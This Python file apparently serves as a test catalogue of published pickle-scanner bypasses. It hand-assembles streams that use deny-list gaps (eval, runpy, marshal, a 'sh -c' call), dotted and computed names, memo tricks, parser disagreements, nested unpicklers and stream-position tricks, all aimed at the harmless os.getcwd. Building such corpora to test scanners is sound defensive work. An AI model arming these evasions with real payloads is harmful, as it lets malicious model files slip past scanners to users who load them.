"""Published ways past pickle scanners (2024 to 2026) as small streams assembled by hand, all with a harmless target.

The classes are those of advisories and papers: gaps in deny lists, dotted names, calls without REDUCE, computed names,
memo and stack games, differences between pickletools and the C unpickler, run-then-break, the extension registry,
rebinding, nesting, and position. The name of each begins with its class.
"""

import marshal
import pickle
from dataclasses import dataclass

PROTO4 = b"\x80\x04"
STOP = b"."


@dataclass(frozen=True)
class Bypass:
    stream: bytes
    loader: str = "c"
    executes: bool = True
    """CPython is made to show it, see executing.py; False where it needs a library or another loader."""


def text(value: str) -> bytes:
    data = value.encode()
    return b"\x8c" + bytes([len(data)]) + data


def raw(value: bytes) -> bytes:
    return b"B" + len(value).to_bytes(4, "little") + value


def sg(module: str, name: str) -> bytes:
    """STACK_GLOBAL."""
    return text(module) + text(name) + b"\x93"


def g(module: str, name: str) -> bytes:
    """GLOBAL."""
    return f"c{module}\n{name}\n".encode()


def call(function: bytes, *arguments: bytes) -> bytes:
    """REDUCE."""
    return function + b"(" + b"".join(arguments) + b"tR"


def p4(*parts: bytes) -> bytes:
    return PROTO4 + b"".join(parts) + STOP


GETCWD = sg("posix", "getcwd")
RUN = call(GETCWD)
PLAIN = g("posix", "getcwd") + b")R"
SOURCE = text("import os; os.getcwd()")
INNER = p4(RUN)
NEW_BAG = sg("collections", "OrderedDict") + b")\x81"
"""An instance of a harmless class that has attributes."""


def planted(name: str, *use: bytes) -> bytes:
    """An instance gets a method of that name planted by BUILD."""
    return p4(NEW_BAG, b"}", text(name), GETCWD, b"sb", *use)


def smuggled(name: str, value: bytes) -> bytes:
    """A text planted on a function, to be read back by a dotted name."""
    return sg("copyreg", "_reconstructor") + b"}" + text(name) + value + b"sb0"


def nested(function: bytes) -> bytes:
    return p4(call(function, raw(INNER)))


def _code() -> bytes:
    return marshal.dumps(compile("import os; os.getcwd()", "x", "exec"))


BYPASSES: dict[str, Bypass] = {
    # S1: names that deny lists do not have
    "s1 timeit": Bypass(p4(call(sg("timeit", "timeit"), SOURCE, SOURCE))),
    "s1 profile": Bypass(p4(call(sg("profile", "run"), SOURCE))),
    "s1 cProfile": Bypass(p4(call(sg("cProfile", "run"), SOURCE))),
    "s1 bdb": Bypass(p4(call(sg("bdb", "Bdb.run"), call(sg("bdb", "Bdb")), SOURCE))),
    "s1 trace": Bypass(p4(call(sg("trace", "Trace.run"), call(sg("trace", "Trace")), SOURCE))),
    "s1 runpy": Bypass(p4(call(sg("runpy", "_run_code"), SOURCE, b"}"))),
    "s1 pkgutil resolve_name": Bypass(p4(call(call(sg("pkgutil", "resolve_name"), text("os:getcwd"))))),
    "s1 importlib": Bypass(p4(call(sg("builtins", "getattr"), call(sg("importlib", "import_module"), text("os")), text("getcwd")), b")R")),
    "s1 __import__": Bypass(p4(call(sg("builtins", "getattr"), call(sg("builtins", "__import__"), text("os")), text("getcwd")), b")R")),
    "s1 eval": Bypass(p4(call(sg("builtins", "eval"), text("__import__('os').getcwd()")))),
    "s1 marshal": Bypass(p4(call(call(sg("types", "FunctionType"), call(sg("marshal", "loads"), raw(_code())), b"}")))),
    "s1 atexit": Bypass(p4(call(sg("atexit", "register"), GETCWD))),
    "s1 uuid": Bypass(p4(call(sg("uuid", "_get_command_stdout"), text("sh"), text("-c")))),
    "s1 _posixsubprocess": Bypass(p4(call(sg("_posixsubprocess", "fork_exec"), b"N")), executes=False),
    "s1 logging": Bypass(p4(call(sg("logging", "FileHandler"), text("written.txt")))),
    "s1 _io": Bypass(p4(call(sg("_io", "open"), text("written.txt"), text("w")))),
    "s1 pip": Bypass(p4(call(sg("pip", "main"), b"]")), executes=False),
    "s1 numpy runstring": Bypass(p4(call(sg("numpy.testing._private.utils", "runstring"), SOURCE, b"}")), executes=False),
    "s1 torch collect_env": Bypass(p4(call(sg("torch.utils.collect_env", "run"), text("true"))), executes=False),
    "s1 site": Bypass(p4(call(sg("site", "addpackage"), text("."), text("x"), b"\x8f")), executes=False),
    "s1 ssl": Bypass(p4(call(sg("ssl", "get_server_certificate"), text("x"))), executes=False),
    "s1 _xxsubinterpreters": Bypass(p4(call(sg("_xxsubinterpreters", "run_string"), b"K\0", SOURCE)), executes=False),
    # S2: a dotted name walks out of a harmless module
    "s2 dotted": Bypass(p4(call(sg("random", "_os.getcwd")))),
    "s2 dotted through a class": Bypass(p4(call(sg("collections", "namedtuple.__globals__")), b"0"), executes=False),
    "s2 dotted deep": Bypass(p4(call(sg("logging", "os.path.os.getcwd")))),
    # S3: calls without REDUCE
    "s3 INST": Bypass(b"(iposix\ngetcwd\n."),
    "s3 OBJ": Bypass(b"(cposix\ngetcwd\no."),
    "s3 NEWOBJ map, tuple": Bypass(p4(sg("builtins", "tuple"), sg("builtins", "map"), GETCWD, text("x"), b"\x86\x81\x85\x81")),
    "s3 NEWOBJ_EX": Bypass(p4(sg("builtins", "tuple"), sg("builtins", "map"), GETCWD, text("x"), b"\x86}\x92\x85}\x92")),
    "s3 map, list": Bypass(p4(call(sg("builtins", "list"), call(sg("builtins", "map"), GETCWD, text("x"))))),
    "s3 filter, set": Bypass(p4(call(sg("builtins", "set"), call(sg("builtins", "filter"), GETCWD, text("x"))))),
    "s3 starmap": Bypass(p4(call(sg("builtins", "list"), call(sg("itertools", "starmap"), GETCWD, b"])a")))),
    "s3 partial": Bypass(p4(call(call(sg("functools", "partial"), GETCWD)))),
    "s3 reduce": Bypass(p4(call(sg("functools", "reduce"), GETCWD, text("xy")))),
    "s3 defaultdict": Bypass(p4(call(sg("operator", "getitem"), call(sg("collections", "defaultdict"), GETCWD), b"K\1"))),
    "s3 defaultdict alone": Bypass(p4(call(sg("collections", "defaultdict"), GETCWD)), executes=False),
    "s3 methodcaller": Bypass(p4(call(call(sg("operator", "methodcaller"), text("getcwd")), call(sg("builtins", "__import__"), text("os"))))),
    "s3 planted __setstate__": Bypass(planted("__setstate__", b"}b")),
    "s3 planted __reduce_ex__": Bypass(planted("__reduce_ex__"), executes=False),
    "s3 planted append": Bypass(planted("append", b"Na")),
    "s3 planted extend": Bypass(planted("extend", b"(Ne")),
    "s3 planted add": Bypass(planted("add", b"(N\x90")),
    "s3 slot state": Bypass(p4(NEW_BAG, b"N}", text("__setstate__"), GETCWD, b"s\x86b}b")),
    # S4: names that are put together while loading
    "s4 join": Bypass(p4(call(sg("builtins", "str.join"), text(""), b"](", text("po"), text("six"), b"e"), text("getcwd"), b"\x93)R")),
    "s4 bytes.decode": Bypass(p4(call(sg("builtins", "bytes.decode"), raw(b"posix")), text("getcwd"), b"\x93)R")),
    "s4 codecs": Bypass(p4(call(sg("_codecs", "decode"), text("cbfvk"), text("rot13")), text("getcwd"), b"\x93)R")),
    "s4 str": Bypass(p4(text("posix"), call(sg("builtins", "str"), text("getcwd")), b"\x93)R")),
    "s4 smuggled on a function": Bypass(
        p4(smuggled("m", text("posix")), sg("copyreg", "_reconstructor.m"), text("getcwd"), b"\x93)R")
    ),
    "s4 name from a persistent id": Bypass(p4(b"NQ", text("getcwd"), b"\x93)R"), executes=False),
    # S5: memo and stack games
    "s5 PUT and MEMOIZE": Bypass(p4(text("json"), b"q\1", text("posix"), b"\x94h\1", text("getcwd"), b"\x93)R")),
    "s5 PUT after POP": Bypass(p4(text("posix"), text("json"), b"0q\0h\0", text("getcwd"), b"\x93)R")),
    "s5 MEMOIZE twice": Bypass(p4(text("json"), b"\x94\x94", text("posix"), b"\x94h\2", text("getcwd"), b"\x93)R")),
    "s5 slot written twice": Bypass(p4(text("json"), b"q\0", text("posix"), b"q\0h\0", text("getcwd"), b"\x93)R")),
    "s5 text slots": Bypass(p4(text("posix"), b"p00\ng0\n", text("getcwd"), b"\x93)R")),
    "s5 scattered slots": Bypass(p4(text("posix"), b"r\xff\xff\xff\x0fj\xff\xff\xff\x0f", text("getcwd"), b"\x93)R"), executes=False),
    "s5 slots counted over a long frame": Bypass(
        p4(raw(bytes(300_000)), b"0](", b"K\x94" * 50, b"e0", text("collections"), b"\x940", (text("posix") + b"\x940") * 50,
           b"h\x32", text("getcwd"), b"\x93)R")
    ),
    "s5 POP as POP_MARK": Bypass(p4(b"(0", RUN)),
    "s5 decoys popped": Bypass(p4(text("posix"), text("getcwd"), text("json"), text("loads"), b"00\x93)R")),
    "s5 DUP": Bypass(p4(GETCWD, b"2)R")),
    # S6: what pickletools and the C unpickler read differently
    "s6 INT base 0": Bypass(b"I0x10\n0" + PLAIN + STOP),
    "s6 INT binary": Bypass(b"I0b1\n0" + PLAIN + STOP),
    "s6 INT with a space": Bypass(b"I 7\n0" + PLAIN + STOP),
    "s6 LONG base 0": Bypass(b"L0x10L\n0" + PLAIN + STOP),
    "s6 FLOAT words": Bypass(b"Fnan\n0" + PLAIN + STOP),
    "s6 STRING outside of ASCII": Bypass(b"S'caf\xe9'\n0" + PLAIN + STOP, "latin1"),
    "s6 SHORT_BINSTRING outside of ASCII": Bypass(b"U\1\xe90" + PLAIN + STOP, "latin1"),
    "s6 no PROTO": Bypass(RUN + STOP),
    "s6 PROTO twice": Bypass(b"\x80\x02\x80\x04" + RUN + STOP),
    "s6 PROTO late": Bypass(b"N\x80\x040" + RUN + STOP),
    "s6 PROTO 1": Bypass(b"\x80\x01" + RUN + STOP),
    "s6 empty FRAME": Bypass(PROTO4 + b"\x95" + bytes(8) + RUN + STOP),
    "s6 FRAME to the end": Bypass(PROTO4 + b"\x95" + len(RUN + STOP).to_bytes(8, "little") + RUN + STOP),
    "s6 fix_imports commands": Bypass(b"\x80\x02" + call(g("commands", "getoutput"), b"U\4true") + STOP),
    "s6 fix_imports imap": Bypass(b"\x80\x02" + g("__builtin__", "list") + b"(" + call(g("itertools", "imap"), g("os", "getcwd"), b"U\1x") + b"tR."),
    "s6 fix_imports cPickle": Bypass(b"\x80\x02" + g("cPickle", "loads") + raw(INNER) + b"\x85R."),
    "s6 fix_imports __builtin__": Bypass(b"\x80\x02" + call(g("__builtin__", "eval"), b"X\x19\0\0\0__import__('os').getcwd()") + STOP),
    "s6 os by GLOBAL": Bypass(g("os", "getcwd") + b")R."),
    # S7: run, then break
    "s7 no STOP": Bypass(PROTO4 + RUN),
    "s7 bad opcode": Bypass(PROTO4 + RUN + b"\xff"),
    "s7 underflow": Bypass(PROTO4 + RUN + b"000."),
    "s7 missing memo": Bypass(PROTO4 + RUN + b"h\x63."),
    "s7 truncated text": Bypass(PROTO4 + RUN + b"X\xff\0\0\0abc"),
    "s7 truncated bytes of 4 GB": Bypass(PROTO4 + RUN + b"B\xff\xff\xff\xff"),
    "s7 bad UTF-8": Bypass(PROTO4 + RUN + b"\x8c\1\xff."),
    "s7 bad protocol": Bypass(PROTO4 + RUN + b"\x80\x63."),
    "s7 bad int": Bypass(PROTO4 + RUN + b"Ino number\n."),
    "s7 frame that ends nowhere": Bypass(PROTO4 + RUN + b"\x95\xff\xff\xff\xff\xff\xff\xff\x7f."),
    # S8: the extension registry
    "s8 EXT1": Bypass(p4(call(sg("copyreg", "add_extension"), text("posix"), text("getcwd"), b"K\x7f"), b"\x82\x7f)R")),
    "s8 EXT4": Bypass(p4(call(sg("copyreg", "add_extension"), text("posix"), text("getcwd"), b"J\0\0\1\0"), b"\x84\0\0\1\0)R")),
    "s8 EXT2 of somebody else": Bypass(p4(b"\x83\1\1)R"), executes=False),
    # S9: rebinding
    "s9 module __dict__": Bypass(p4(sg("collections", "__dict__"), text("OrderedDict"), GETCWD, b"s0", sg("collections", "OrderedDict"), b")R")),
    "s9 sys.modules": Bypass(p4(sg("sys", "modules"), text("collections"), sg("sys", "modules"), text("os"), b"s0"), executes=False),
    "s9 BUILD on a function": Bypass(p4(sg("copyreg", "_reconstructor"), b"}", text("__wrapped__"), GETCWD, b"sb"), executes=False),
    "s9 BUILD on a class": Bypass(p4(sg("collections", "Counter"), b"N}", text("__init__"), GETCWD, b"s\x86b0", sg("collections", "Counter"), b")R")),
    # S10: another unpickler within
    "s10 pickle.loads": Bypass(nested(sg("pickle", "loads"))),
    "s10 _pickle.loads": Bypass(nested(sg("_pickle", "loads"))),
    "s10 ForkingPickler": Bypass(nested(sg("multiprocessing.reduction", "ForkingPickler.loads"))),
    "s10 BytesIO": Bypass(p4(call(sg("pickle", "load"), call(sg("_io", "BytesIO"), raw(INNER))))),
    "s10 Unpickler": Bypass(p4(call(sg("_pickle", "Unpickler.load"), call(sg("_pickle", "Unpickler"), call(sg("_io", "BytesIO"), raw(INNER)))))),
    "s10 torch": Bypass(nested(sg("torch.storage", "_load_from_bytes")), executes=False),
    "s10 torch in torch": Bypass(p4(call(sg("torch.storage", "_load_from_bytes"), raw(nested(sg("torch.storage", "_load_from_bytes"))))), executes=False),
    "s10 joblib": Bypass(p4(call(sg("joblib", "load"), text("sibling.bin"))), executes=False),
    "s10 numpy": Bypass(p4(call(sg("numpy", "load"), text("sibling.npy"))), executes=False),
    "s10 dill": Bypass(nested(sg("dill", "loads")), executes=False),
    "s10 cloudpickle": Bypass(nested(sg("cloudpickle", "loads")), executes=False),
    "s10 pandas": Bypass(p4(call(sg("pandas", "read_pickle"), text("sibling"))), executes=False),
    # S11: position
    "s11 second stream": Bypass(pickle.dumps([1, 2]) + INNER, "many"),
    "s11 tenth stream": Bypass(b"N." * 9 + INNER, "many"),
    "s11 stream behind an open frame": Bypass(
        PROTO4 + b"\x95" + (6).to_bytes(8, "little") + b"N." + PROTO4 + b"C" + bytes([len(INNER)]) + INNER + b".", "many"
    ),
    "s11 memo of the stream before": Bypass(p4(text("posix"), b"\x94") + p4(b"h\0", text("getcwd"), b"\x93)R"), executes=False),
    "s11 after many opcodes": Bypass(PROTO4 + b"N0" * 300_000 + RUN + STOP),
    "s11 after many appends": Bypass(PROTO4 + b"](" + b"K\1" * 300_000 + b"e0" + RUN + STOP),
    "s11 after a large literal": Bypass(PROTO4 + raw(bytes(3 << 20)) + b"0" + RUN + STOP),
    "s11 within a large list": Bypass(PROTO4 + b"](" + (b"(" + text("x" * 40) + text("y" * 40) + b"t") * 5_000 + RUN + b"e."),
    "s11 torch legacy": Bypass(b"".join(pickle.dumps(v, 2) for v in (0x1950A86A20F9469CFC6C, 1001, {})) + INNER + pickle.dumps([], 2), "many"),
    "s11 torch legacy, magic computed": Bypass(
        p4(call(sg("builtins", "int"), text("0x1950a86a20f9469cfc6c"), b"K\x10"))
        + b"".join(pickle.dumps(v, 2) for v in (1001, {})) + INNER + pickle.dumps([], 2), "many",
    ),
}  # fmt: skip
